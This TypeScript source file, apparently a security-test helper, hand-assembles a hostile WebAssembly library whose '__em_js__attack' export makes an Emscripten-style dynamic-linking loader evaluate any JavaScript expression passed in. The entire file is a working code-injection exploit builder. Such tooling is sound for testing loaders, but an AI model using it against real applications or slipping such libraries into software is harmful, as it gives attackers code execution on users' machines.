/**
 * A library for WebAssembly as Emscripten's compiler would make it (tool-conventions/DynamicLinking.md), by hand: all it
 * has is JavaScript, which the loader of such libraries evaluates while it loads one.
 */

/** @param script an expression, which is evaluated in the scope of the loader */
export function hostileLibrary(script: string): Buffer {
	// What the loader makes of it: "() => {}, (script);"
	const text = Buffer.from(`(void)<::>{}, (${script})\0`);
	const I32 = 0x7f;
	const memory = section(0, [...name('dylink.0'), 1, ...sized([...uleb(text.length), 0, 0, 0])]);
	const imports = section(2, [
		2,
		...[...name('env'), ...name('memory'), 2, 0, 0],
		...[...name('env'), ...name('__memory_base'), 3, I32, 0],
	]);
	const zero = [0x41, 0, 0x0b];
	const globals = section(6, [1, I32, 0, ...zero]);
	const exports = section(7, [1, ...name('__em_js__attack'), 3, 1]);
	const data = section(11, [1, 0, 0x23, 0, 0x0b, ...sized([...text])]);
	return Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, ...memory, ...imports, ...globals, ...exports, ...data]);
}

function section(id: number, content: readonly number[]): number[] {
	return [id, ...sized(content)];
}

function name(text: string): number[] {
	return sized([...Buffer.from(text)]);
}

function sized(content: readonly number[]): number[] {
	return [...uleb(content.length), ...content];
}

function uleb(value: number): number[] {
	return value < 128 ? [value] : [value % 128 | 128, ...uleb(Math.floor(value / 128))];
}
